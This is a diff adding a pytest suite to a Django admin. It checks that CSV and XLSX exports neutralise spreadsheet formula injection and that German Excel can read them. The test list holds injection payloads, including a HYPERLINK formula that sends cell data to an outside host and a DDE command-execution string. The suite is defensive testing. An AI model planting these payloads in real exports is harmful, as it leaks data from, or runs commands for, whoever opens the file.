@@ -1,0 +1,87 @@
+"""Every CSV/XLSX export of the admin: no formula runs when it is opened, and German
+Excel reads it (UTF-8 with BOM, semicolons, TT.MM.JJJJ)."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from tests.factories import ParticipantFactory
+from tests.housing.factories import HomeVisitFactory, LandlordFactory
+
+ATTACKS = [
+    '=HYPERLINK("http://example.invalid/?"&B2,"click")',
+    "=cmd|'/C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _body(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def _csv_rows(response):
+    body = _body(response)
+    assert body.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte order mark"
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_landlord_export_neutralises_formulas(coordinator_client, attack):
+    LandlordFactory(name=attack)
+    response = coordinator_client.get(reverse("landlords:index"), {"export": "csv"})
+    rows = _csv_rows(response)
+    names = [row[0] for row in rows[1:]]
+    assert names == ["'" + attack]
+
+
+def test_visit_export_neutralises_agreed_actions_in_csv_and_xlsx(coordinator_client):
+    attack = ATTACKS[0]
+    HomeVisitFactory(agreed_actions=attack, observations="Alles gut")
+    rows = _csv_rows(coordinator_client.get(reverse("visits:index"), {"export": "csv"}))
+    assert "'" + attack in rows[1]
+    assert "Alles gut" in rows[1]  # ordinary text is untouched
+
+    response = coordinator_client.get(reverse("visits:index"), {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(_body(response))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    attacked = [cell for cell in cells if attack in str(cell.value)]
+    assert attacked and all(c.data_type == "s" and c.value == "'" + attack for c in attacked)
+
+
+def test_csv_opens_in_german_excel_with_umlauts_and_german_dates(coordinator_client):
+    ParticipantFactory(given_names="Ștefan", family_name="Rădulescu-Müller")
+    response = coordinator_client.get(reverse("participants:index"), {"export": "csv"})
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    rows = _csv_rows(response)
+    assert len(rows[0]) > 3  # separated by semicolons, not all in one column
+    assert rows[1][:2] == ["Rădulescu-Müller", "Ștefan"]
+    assert "17.05.1985" in rows[1]
+
+
+def test_phone_numbers_stay_readable_numbers_stay_numbers(coordinator_client):
+    LandlordFactory(name="Wohnbau Süd", phone="+49 2331 123456")
+    rows = _csv_rows(coordinator_client.get(reverse("landlords:index"), {"export": "csv"}))
+    # A leading "+" would be run as a formula; the apostrophe keeps it text.
+    assert "'+49 2331 123456" in rows[1]
+
+
+def test_the_site_history_export_is_covered_too(coordinator_client):
+    from wagtail.log_actions import log
+
+    from core.roles import Role
+    from tests.factories import UserFactory
+
+    # A staff user's display name is written into the export; it can carry a formula too.
+    actor = UserFactory(username="mallory", first_name="=1+1", last_name="", role=Role.COORDINATOR)
+    log(instance=LandlordFactory(), action="wagtail.edit", user=actor)
+    rows = _csv_rows(
+        coordinator_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
+    )
+    assert any("'=1+1" in row for row in rows[1:])
